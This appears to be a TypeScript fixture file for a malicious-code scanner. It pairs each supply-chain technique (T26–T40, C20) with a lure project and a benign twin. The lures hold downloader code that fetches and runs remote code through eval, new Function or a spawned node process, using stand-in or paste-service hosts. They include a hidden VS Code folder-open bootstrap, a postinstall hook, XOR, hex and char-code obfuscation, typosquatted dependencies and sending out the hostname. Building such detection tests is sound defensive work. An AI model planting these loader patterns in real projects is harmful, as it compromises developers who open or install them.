// Inert fixtures: shapes of documented lures (T26–T40), reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from './fixture.ts';
import { obfuscatedLine } from './shapes.ts';

const START = '{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"axios":"1"}}';
const one = (
  code: string,
  more: Record<string, string | Uint8Array> = {},
): { files: Record<string, string | Uint8Array> } => ({ files: { 'package.json': START, 'server.js': code, ...more } });
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',');

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'T26',
    title: 'Function of the answer of a request, named as key validation',
    lure: one(
      "const axios = require('axios');\nconst verify = (api) => axios.get(api);\nasync function validateApiKey(key) {\n  const response = await verify(key);\n  const executor = new Function('require', response.data);\n  executor(require);\n  console.log('API Key verified successfully.');\n}\nvalidateApiKey('https://validate.invalid/api');\n",
    ),
    expect: {
      level: 'malicious',
      file: 'server.js',
      via: ['package.json', 'server.js'],
      indicators: ['validate.invalid'],
    },
    twin: {
      ...one(
        "const axios = require('axios');\nasync function validateApiKey(key) {\n  const response = await axios.get('https://validate.example/api', { params: { key } });\n  return response.data.valid === true;\n}\nvalidateApiKey(process.env.API_KEY).then((ok) => console.log(ok));\n",
      ),
      why: 'a key that is really validated',
    },
  },
  {
    id: 'T27',
    title: 'Function.constructor spellings',
    lure: one(
      "const axios = require('axios');\nconst load = async () => {\n  const { data: s } = await axios('https://constructor.invalid/api');\n  const handler = new (Function.constructor)('require', s);\n  handler(require);\n};\nload();\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['constructor.invalid'] },
    twin: {
      ...one(
        "const AsyncFunction = (async () => {}).constructor;\nconst isAsync = (fn) => fn.constructor === AsyncFunction;\nconst root = Function('return this')();\nconsole.log(isAsync(async () => {}), typeof root);\n",
      ),
      why: 'constructors compared, the global object asked for',
    },
  },
  {
    id: 'T28',
    title: 'cookie field is evaluated in an immediately called wrapper',
    lure: one(
      "const axios = require('axios');\nconst wrap = (fn) => (req, res, next) => Promise.resolve(fn(req, res, next)).catch(next);\nconst getCookie = wrap(async (req, res, next) => {\n  const result = await axios.get('https://cookie-store.invalid/b/1');\n  eval(result.data.cookie);\n})();\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['cookie-store.invalid'] },
    twin: {
      ...one(
        "const axios = require('axios');\nconst wrap = (fn) => (req, res, next) => Promise.resolve(fn(req, res, next)).catch(next);\nmodule.exports.getCookie = wrap(async (req, res) => {\n  const result = await axios.get('https://cookie-store.example/b/1');\n  res.cookie('session', result.data.cookie);\n});\n",
      ),
      why: 'a cookie that is set',
    },
  },
  {
    id: 'T29',
    title: 'eval in the error path',
    lure: one(
      "const axios = require('axios');\nasync function callHashedContract() {\n  return axios.post('https://expected-to-fail.invalid/api', {}).then((res) => res.data).catch((err) => eval(err.response.data));\n}\nasync function callOther() {\n  return axios.post('https://rpc.example', {}).catch((err) => console.log(err.response.data));\n}\ncallOther();\ncallHashedContract();\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['expected-to-fail.invalid'] },
    twin: {
      ...one(
        "const axios = require('axios');\naxios.post('https://rpc.example', {}).catch((err) => {\n  console.error(err.response.data);\n  throw new Error(`failed: ${err.response.status}`);\n});\n",
      ),
      why: 'errors are logged',
    },
  },
  {
    id: 'T30',
    title: 'a loader beside a genuine error handler',
    lure: one(
      "const { globalErrorHandler, syncConfigHandler } = require('./middlewares/handle-global-error');\nconst app = require('express')();\napp.use(globalErrorHandler);\nsyncConfigHandler();\napp.listen(3000);\n",
      {
        'middlewares/handle-global-error.js':
          "const axios = require('axios');\nexports.globalErrorHandler = (err, req, res, next) => {\n  res.status(err.status || 500).json({ message: err.message });\n};\nconst executeHandler = (code) => new Function('require', code);\nexports.syncConfigHandler = async () => {\n  try {\n    await axios.get('https://error-handler.invalid/config');\n  } catch (error) {\n    executeHandler(error.response.data.message)(require);\n  }\n};\n",
      },
    ),
    expect: {
      level: 'malicious',
      file: 'middlewares/handle-global-error.js',
      tradecraft: ['T29', 'T30'],
      via: ['package.json', 'server.js', 'middlewares/handle-global-error.js'],
      indicators: ['error-handler.invalid'],
    },
    twin: {
      ...one(
        "const { globalErrorHandler } = require('./middlewares/handle-global-error');\nconst app = require('express')();\napp.use(globalErrorHandler);\napp.listen(3000);\n",
        {
          'middlewares/handle-global-error.js':
            'exports.globalErrorHandler = (err, req, res, next) => {\n  res.status(err.status || 500).json({ message: err.message });\n};\n',
        },
      ),
      why: 'the genuine handler alone',
    },
  },
  {
    id: 'T31',
    title: 'status error means: run the message',
    lure: one(
      "const axios = require('axios');\nconst os = require('os');\nasync function checkStatus(sysId) {\n  const { data } = await axios.get('https://registrar.invalid/api/checkStatus', { params: { sysId, host: os.hostname() } });\n  const { status, message } = data;\n  if (status === 'error') {\n    eval(message);\n  } else {\n    console.log('ok');\n  }\n}\nsetInterval(() => checkStatus('1'), 5000);\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['registrar.invalid'] },
    twin: {
      ...one(
        "const axios = require('axios');\nasync function checkStatus() {\n  const { data } = await axios.get('https://status.example/api/status');\n  if (data.status === 'error') {\n    console.error(data.message);\n  }\n}\nsetInterval(checkStatus, 5000);\n",
      ),
      why: 'a status check',
    },
  },
  {
    id: 'T32',
    title: 'JSON key cookies carries the payload',
    lure: one(
      "(async () => {\n  const res = await fetch('https://www.jsonkeeper.com/b/ZZZZ0');\n  const json = await res.json();\n  const fn = new Function('require', json.cookies);\n  fn(require);\n})();\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['jsonkeeper.com/b/ZZZZ0'] },
    twin: {
      ...one(
        "(async () => {\n  const res = await fetch('https://www.jsonkeeper.com/b/ZZZZ0');\n  const json = await res.json();\n  for (const cookie of json.cookies) console.log(cookie.name);\n})();\n",
      ),
      why: 'a list of cookies that is printed',
    },
  },
  {
    id: 'T33',
    title: 'child implants over standard input',
    lure: one(
      "const { spawn } = require('child_process');\nconst axios = require('axios');\nasync function launch(path) {\n  const { data } = await axios.get(`https://stdin.invalid${path}`);\n  const child = spawn(process.execPath, ['-'], { detached: true, stdio: ['pipe', 'ignore', 'ignore'], windowsHide: true });\n  child.stdin.write(data);\n  child.stdin.end();\n  child.unref();\n}\n['/a', '/b', '/c'].forEach(launch);\n",
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['stdin.invalid'] },
    twin: {
      ...one(
        "const { spawn } = require('child_process');\nconst child = spawn('gzip', ['-c'], { stdio: ['pipe', 'pipe', 'inherit'] });\nchild.stdin.end('data to compress');\nchild.stdout.pipe(process.stdout);\n",
      ),
      why: 'data piped to a filter',
    },
  },
  {
    id: 'T34',
    title: 'script with an odd extension',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"postinstall":"node env/parser.npl"}}',
        'env/parser.npl':
          "const https = require('https');\nhttps.get('https://npl.invalid/s', (r) => { let b = ''; r.on('data', (c) => { b += c; }).on('end', () => eval(b)); });\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'env/parser.npl',
      via: ['package.json', 'env/parser.npl'],
      indicators: ['npl.invalid'],
      tradecraft: ['T34', 'T26'],
    },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"postinstall":"node scripts/copy.cjs"}}',
        'scripts/copy.cjs': "require('fs').copyFileSync('a.txt', 'b.txt');\n",
        'data/sample.npl': '01 02 03\n04 05 06\n',
      },
      why: 'data with that extension',
    },
  },
  {
    id: 'T35',
    title: 'portable Node bootstrap',
    lure: {
      files: {
        'package.json': '{"name":"app"}',
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"b","type":"shell","linux":{"command":"bash scripts/bootstrap.sh"},"windows":{"command":"scripts\\\\bootstrap.cmd"},"runOptions":{"runOn":"folderOpen"}}]}',
        'scripts/bootstrap.sh':
          '#!/bin/bash\nset -e\nTARGET="$HOME/.vscode"\nif ! command -v node > /dev/null; then\n  curl -sL -o "$TARGET/node.tar.xz" https://nodejs.org/dist/v20.11.1/node-v20.11.1-linux-x64.tar.xz\n  tar -xf "$TARGET/node.tar.xz" -C "$TARGET"\nfi\ncurl -s -L -o "$TARGET/env-setup.js" https://portable.invalid/task/env-setup.npl\ncd "$TARGET" && npm i --silent && node env-setup.js > /dev/null 2>&1 &\n',
        'scripts/bootstrap.cmd':
          '@echo off\r\npowershell -WindowStyle Hidden -Command "Start-Process cmd -ArgumentList \'/c %~f0\' -WindowStyle Hidden"\r\ncurl -s -L -o "%USERPROFILE%\\.vscode\\env-setup.js" https://portable.invalid/task/env-setup.npl\r\nnode "%USERPROFILE%\\.vscode\\env-setup.js"\r\n',
      },
    },
    expect: {
      level: 'malicious',
      file: 'scripts/bootstrap.sh',
      via: ['.vscode/tasks.json', 'scripts/bootstrap.sh'],
      indicators: ['portable.invalid'],
    },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"setup":"bash scripts/setup.sh"}}',
        'scripts/setup.sh':
          '#!/bin/bash\nset -euo pipefail\nif ! command -v node > /dev/null; then\n  curl -fsSL https://nodejs.org/dist/v20.11.1/node-v20.11.1-linux-x64.tar.xz | tar -xJ -C /opt\nfi\nnpm ci\nnpm run build\n',
      },
      why: 'a set-up script that installs Node where it is missing',
    },
  },
  {
    id: 'T36',
    title: 'look-alike dependency',
    lure: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"epxresso":"^1.0.0","dotevn":"^16.0.0","axios":"^1.6.0"}}',
        'server.js': "require('dotevn').config();\nconst app = require('epxresso')();\napp.listen(3000);\n",
      },
    },
    expect: { level: 'suspicious', file: 'package.json' },
    twin: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"express":"^4.0.0","dotenv":"^16.0.0","preact":"^10.0.0","nuxt":"^3.0.0","lodash-es":"^4.0.0","chalk":"^5.0.0"}}',
        'server.js': "require('dotenv').config();\nrequire('express')().listen(3000);\n",
      },
      why: 'the real names, and real names close to others',
    },
  },
  {
    id: 'T37',
    title: 'XOR strings and text decoder before eval (XORIndex shape)',
    lure: one(
      `const key = [0x21, 0x37];\nconst dec = (bytes) => new TextDecoder().decode(Uint8Array.from(bytes.map((b, i) => b ^ key[i % key.length])));\nconst url = dec([${[...'https://xor-index.invalid/api/ipcheck'].map((c, i) => c.charCodeAt(0) ^ [0x21, 0x37][i % 2]!).join(', ')}]);\nconst os = require('os');\nfetch(url, { method: 'POST', body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username }) }).then((r) => r.text()).then((s) => (0, eval)(s));\n`,
    ),
    expect: {
      level: 'malicious',
      file: 'server.js',
      tradecraft: ['T37', 'T26', 'T54'],
      indicators: ['xor-index.invalid'],
    },
    twin: {
      ...one(
        'const mask = [1, 2, 3, 4];\nconst unmask = (bytes) => bytes.map((b, i) => b ^ mask[i % 4]);\nconst frame = unmask([72, 101, 108, 108]);\nconsole.log(new TextDecoder().decode(Uint8Array.from(frame)));\n',
      ),
      why: 'the masking of websocket frames',
    },
  },
  {
    id: 'T38',
    title: 'hex-encoded module and address (HexEval shape)',
    lure: one(
      `const h = (s) => Buffer.from(s, 'hex').toString('utf8');\nconst c = require(h('${hex('axios')}'));\nc[h('${hex('post')}')](h('${hex('https://hex-eval.invalid/api/ipcheck')}')).then((r) => { eval(r.data); });\n`,
    ),
    expect: { level: 'malicious', file: 'server.js', indicators: ['hex-eval.invalid'] },
    twin: {
      ...one(
        "const crypto = require('crypto');\nconst salt = Buffer.from('00112233445566778899aabbccddeeff', 'hex');\nconsole.log(crypto.scryptSync('password', salt, 32).toString('hex'));\n",
      ),
      why: 'hex for cryptography',
    },
  },
  {
    id: 'T39',
    title: 'package whose import fetches its code and its configuration from a JSON store',
    lure: {
      files: {
        'package.json': '{"name":"date-fmt-lite","version":"1.0.3","main":"index.js"}',
        'index.js': "require('./lib/loader');\nmodule.exports = (d) => d.toISOString();\n",
        'lib/loader.js':
          "const axios = require('axios');\n(async () => {\n  const conf = await axios.get('https://api.npoint.io/00000000000000000001');\n  const code = await axios.get('https://api.npoint.io/00000000000000000002');\n  globalThis.campaign = 44;\n  new Function('require', 'conf', code.data.content)(require, conf.data);\n})();\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'lib/loader.js',
      tradecraft: ['T39', 'T26', 'T45'],
      via: ['package.json', 'index.js', 'lib/loader.js'],
      indicators: ['api.npoint.io/00000000000000000002'],
    },
    twin: {
      files: {
        'package.json': '{"name":"date-fmt-lite","version":"1.0.3","main":"index.js"}',
        'index.js':
          "const locale = require('./lib/locale.json');\nmodule.exports = (d) => locale.prefix + d.toISOString();\n",
        'lib/locale.json': '{"prefix":"on "}',
      },
      why: 'a small package',
    },
  },
  {
    id: 'T40',
    title: 'markers in a paste name the hosts',
    lure: one(
      "const https = require('https');\nfunction get(url, done) { https.get(url, (r) => { let t = ''; r.on('data', (c) => (t += c)); r.on('end', () => done(t)); }); }\nget('https://pastebin.com/raw/AAAAAAAA', (text) => {\n  const hosts = text.split('===END===')[0].split('|||').filter((_, i) => i % 2 === 0);\n  get(`https://${hosts[0]}.vercel.app/api/m`, (code) => new Function(code)());\n});\n",
    ),
    expect: {
      level: 'malicious',
      file: 'server.js',
      tradecraft: ['T40', 'T26'],
      indicators: ['pastebin.com/raw/AAAAAAAA'],
    },
    twin: {
      ...one(
        "const rows = require('fs').readFileSync('data.txt', 'utf8').split('===END===')[0].split('|||');\nfor (const row of rows) console.log(row.trim());\n",
      ),
      why: 'a text format with the same separators',
    },
  },
  {
    id: 'C20',
    title: 'char codes hide the module and the sink',
    lure: one(
      `const s = (...n) => String.fromCharCode(...n);\nconst g = global[s(${codes('eval')})];\nrequire(s(${codes('https')})).get(s(${codes('https://char-codes.invalid/p')}), (r) => { const all = []; r.on(s(${codes('data')}), (c) => all.push(c)); r.on(s(${codes('end')}), () => g(Buffer.concat(all).toString())); });\n${obfuscatedLine(300, 2)}\n`,
    ),
    expect: {
      level: 'malicious',
      file: 'server.js',
      tradecraft: ['T26', 'T38', 'T37'],
      indicators: ['char-codes.invalid'],
    },
    twin: {
      ...one("const test = (...codes) => String.fromCharCode(...codes);\nconsole.assert(test(104, 105) === 'hi');\n"),
      why: 'a test of characters',
    },
  },
];
export default fixtures;
